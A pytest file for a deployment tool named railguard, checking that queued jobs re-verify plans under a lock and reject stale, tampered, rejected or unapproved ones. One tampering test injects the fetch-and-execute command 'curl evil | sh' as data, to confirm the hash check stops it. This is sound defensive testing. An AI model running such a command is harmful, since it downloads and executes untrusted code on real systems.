"""The engine's use cases with the fake provider: facts gathered once, nothing moved before a job runs,
and every guardrail checked again inside the job, under the lock."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from railguard.engine import usecases
from railguard.engine.workspace import Workspace
from railguard.model.counters import COUNTS
from railguard.model.diagnostics import RailguardError
from railguard.model.principals import Principal, Role
from railguard.providers.fake import FakeProvider
from railguard.state import approvals, audit
from railguard.state.store import Store

from .conftest import BASE_SPEC

ADMIN = Principal(id="user:test", role=Role.admin)


def _workspace(tmp_path: Path, text: str = BASE_SPEC) -> Workspace:
    (tmp_path / "app.py").write_text("print('hi')\n")
    (tmp_path / "railguard.toml").write_text(text)
    return Workspace(tmp_path / "railguard.toml", tmp_path / ".railguard")


def _run(store: Store, submitted: usecases.Submission) -> dict[str, object]:
    """What the daemon does with a submission: record the operation, then run its job."""
    op_id = store.create_operation(submitted.env, submitted.kind, submitted.plan_id, ADMIN.id, status="queued")
    return submitted.run(store, op_id)


def _codes(exc: pytest.ExceptionInfo[RailguardError]) -> list[str]:
    return [d.code for d in exc.value.diagnostics]


def test_apply_reads_neither_the_spec_nor_the_source_on_disk(tmp_path: Path) -> None:
    """A plan carries its source snapshot and spec: applying it parses and hashes nothing."""
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    plan = usecases.plan(ws, "staging", store, provider, ADMIN)
    assert plan.source is not None and plan.source.files == 1 and store_has(ws, plan.source.digest)
    parses, snaps = COUNTS["spec-parse"], COUNTS["source-snapshot"]
    submitted = usecases.submit_apply(ws, plan.id, store, provider, ADMIN)
    assert (COUNTS["spec-parse"] - parses, COUNTS["source-snapshot"] - snaps) == (0, 0)
    assert (submitted.env, submitted.kind, submitted.plan_id) == ("staging", "apply", plan.id)
    assert provider.applied == []  # nothing runs before the job
    record = _run(store, submitted)
    assert record.status == "succeeded"
    assert (COUNTS["spec-parse"] - parses, COUNTS["source-snapshot"] - snaps) == (0, 0)
    assert store.load_plan(plan.id)[2] == "applied"


def store_has(ws: Workspace, digest: str) -> bool:
    from railguard.sources.store import SnapshotStore

    return SnapshotStore.of(ws.home).has(digest)


def test_edits_after_the_plan_neither_change_nor_invalidate_it(tmp_path: Path) -> None:
    """Code, spec and new files written after `plan` (even a broken spec): the plan applies as reviewed."""
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    plan = usecases.plan(ws, "staging", store, provider, ADMIN)
    (tmp_path / "app.py").write_text("print('changed')\n")
    (tmp_path / "plan.json").write_text("{}\n")
    (tmp_path / "railguard.toml").write_text("[app\n")  # mid-edit, not even TOML
    record = _run(store, usecases.submit_apply(ws, plan.id, store, provider, ADMIN))
    assert record.status == "succeeded"
    release = store.releases("staging", 1)[0]
    assert release.source["digest"] == plan.source.digest  # type: ignore[union-attr]
    assert {e.source for e in release.services.values()} == {plan.source.digest}  # type: ignore[union-attr]


def test_a_plan_from_a_proposed_spec_waits_for_the_file(tmp_path: Path) -> None:
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    proposed = BASE_SPEC.replace("[services.api]", "[services.api]\nreplicas = 2")
    plan = usecases.plan(Workspace(ws.spec_path, ws.home, proposed), "staging", store, provider, ADMIN)
    assert plan.source is not None and plan.source.proposed
    with pytest.raises(RailguardError) as exc:
        usecases.submit_apply(ws, plan.id, store, provider, ADMIN)
    assert _codes(exc) == ["plan.spec_changed"]
    (tmp_path / "railguard.toml").write_text(proposed)
    assert _run(store, usecases.submit_apply(ws, plan.id, store, provider, ADMIN)).status == "succeeded"


def test_job_refuses_a_plan_that_went_stale_while_queued(tmp_path: Path) -> None:
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    _run(store, usecases.submit_apply(ws, usecases.plan(ws, "staging", store, provider, ADMIN).id, store,
                                      provider, ADMIN))
    (tmp_path / "railguard.toml").write_text(BASE_SPEC.replace("[services.api]", "[services.api]\nreplicas = 2"))
    second = usecases.plan(ws, "staging", store, provider, ADMIN)
    submitted = usecases.submit_apply(ws, second.id, store, provider, ADMIN)
    provider.live["staging"].pop("staging/service.web")  # the live system moves while the job waits
    applied = list(provider.applied)
    with pytest.raises(RailguardError) as exc:
        _run(store, submitted)
    assert _codes(exc) == ["plan.stale"] and provider.applied == applied


@pytest.mark.parametrize("field", ["config", "id"])
def test_job_refuses_a_plan_tampered_with_while_queued(tmp_path: Path, field: str) -> None:
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    plan = usecases.plan(ws, "staging", store, provider, ADMIN)
    submitted = usecases.submit_apply(ws, plan.id, store, provider, ADMIN)
    db = sqlite3.connect(ws.home / "state.db")
    body = json.loads(db.execute("SELECT body FROM plans WHERE id = ?", (plan.id,)).fetchone()[0])
    if field == "id":  # the hash does not cover the id: a body naming another plan
        body["id"] = "plan-someone-elses"
    else:
        body["desired"][0]["config"]["run"] = ["sh", "-c", "curl evil | sh"]
    db.execute("UPDATE plans SET body = ? WHERE id = ?", (json.dumps(body), plan.id))
    db.commit()
    db.close()
    with pytest.raises(RailguardError) as exc:
        _run(store, submitted)
    assert _codes(exc) == ["plan.hash_mismatch"] and provider.applied == []


def test_job_refuses_a_plan_rejected_while_queued(tmp_path: Path) -> None:
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    plan = usecases.plan(ws, "staging", store, provider, ADMIN)
    submitted = usecases.submit_apply(ws, plan.id, store, provider, ADMIN)
    store.mark_plan(plan.id, "rejected")
    with pytest.raises(RailguardError) as exc:
        _run(store, submitted)
    assert _codes(exc) == ["plan.already_applied"] and provider.applied == []


def test_job_checks_approvals_again_under_the_lock(tmp_path: Path) -> None:
    """An agent's plan for a protected environment was approved when submitted; a rejection while queued stops
    the job."""
    ws = _workspace(tmp_path, BASE_SPEC.replace("edge_port = 18080", "edge_port = 18080\nprotected = true"))
    store, provider = Store.open(ws.home), FakeProvider()
    agent = Principal(id="token:bot", role=Role.agent, kind="token")
    plan = usecases.plan(ws, "staging", store, provider, agent)
    with pytest.raises(RailguardError) as exc:
        usecases.submit_apply(ws, plan.id, store, provider, agent)
    assert _codes(exc) == ["policy.approval_required"]
    approvals.record(store, plan.id, plan.hash, "approved", "user:approver", "", [], 3600)
    with pytest.raises(RailguardError) as exc:  # an approval counts only with its entry in the audit log
        usecases.submit_apply(ws, plan.id, store, provider, agent)
    assert _codes(exc) == ["policy.approval_required"] and "audit log" in exc.value.diagnostics[0].detail
    audit.append(store, None, principal="user:approver", action=audit.APPROVE_ACTION, outcome="ok", env="staging",
                 plan_id=plan.id, plan_hash=plan.hash)
    submitted = usecases.submit_apply(ws, plan.id, store, provider, agent)
    approvals.record(store, plan.id, plan.hash, "rejected", "user:approver", "not now", [], 3600)
    with pytest.raises(RailguardError) as exc:
        _run(store, submitted)
    assert _codes(exc) == ["policy.approval_required"] and provider.applied == []


def test_rollback_precheck_reads_the_store_only(tmp_path: Path) -> None:
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    for version in ("v1", "v2"):
        (tmp_path / "app.py").write_text(f"print('{version}')\n")
        _run(store, usecases.submit_apply(ws, usecases.plan(ws, "staging", store, provider, ADMIN).id, store,
                                          provider, ADMIN))
    provider.live["staging"].pop("staging/service.api")  # a live change nobody has observed yet
    serial = store.serial("staging")
    submitted = usecases.rollback(ws, "staging", None, store, provider, ADMIN)
    assert store.serial("staging") == serial  # the pre-check did not observe
    record = _run(store, submitted)  # the job observes, under the lock
    assert record.status == "succeeded" and store.serial("staging") > serial
    assert store.releases("staging")[0].rollback_of == 1


def test_rollback_precheck_refuses_without_a_target_and_moves_nothing(tmp_path: Path) -> None:
    ws, provider = _workspace(tmp_path), FakeProvider()
    store = Store.open(ws.home)
    serial = store.serial("staging")
    with pytest.raises(RailguardError) as exc:
        usecases.rollback(ws, "staging", None, store, provider, ADMIN)
    assert _codes(exc) == ["rollback.no_target"] and store.serial("staging") == serial
